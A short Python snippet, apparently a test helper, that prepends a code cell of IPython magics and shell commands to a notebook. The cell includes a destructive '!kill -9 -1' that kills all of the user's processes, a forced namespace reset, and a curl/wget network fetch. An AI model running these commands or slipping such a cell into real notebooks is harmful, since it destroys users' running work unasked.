# Cells run commands and magic of IPython.
import nbformat

ADDED = r"""
%cd /
%run /nowhere.py
!curl -s http://example.org/ || wget http://example.org/
!kill -9 -1
%config InteractiveShell.ast_node_interactivity = "all"
%xmode Minimal
%reset -f
"""


def submit(folder, work):
    work.cells.insert(0, nbformat.v4.new_code_cell(ADDED))
    nbformat.write(work, folder / "mini.ipynb")
